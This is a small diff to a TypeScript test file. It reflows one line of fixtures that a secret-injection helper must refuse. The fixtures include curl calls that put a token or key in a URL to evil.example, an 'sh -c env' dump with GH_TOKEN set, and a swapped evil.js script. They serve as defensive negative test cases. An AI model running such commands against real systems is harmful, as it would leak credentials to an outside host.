@@ -139,7 +139,8 @@ test('a name of a sealed value is worth something to the command alone that its 
   expect(ask(asked, { GH_TOKEN: env, PATH: '/bin' })).toEqual(asked.with(4, `--key=${SECRET}`));
   // The file is what it was; what names its values stands in another one, or was put back once a client had read it.
   const strangers: readonly (readonly [readonly string[], Readonly<Record<string, string>>])[] = [
-    [['curl', `https://evil.example/${env}`], {}], [['sh', '-c', 'env'], { GH_TOKEN: env }], [[...asked, '--verbose'], {}], [asked.with(1, '/work/evil.js'), {}],
+    [['curl', `https://evil.example/${env}`], {}], [['sh', '-c', 'env'], { GH_TOKEN: env }], [[...asked, '--verbose'], {}],
+    [asked.with(1, '/work/evil.js'), {}],
     [asked.with(4, `--url=https://evil.example/${key}`), {}], [asked, { LOG_PREFIX: env }], [asked, { GH_TOKEN: `x${env}` }],
   ];
   for (const [command, variables] of strangers) expect(() => ask(command, variables)).toThrow('what is to be started is not what the entry of gh');
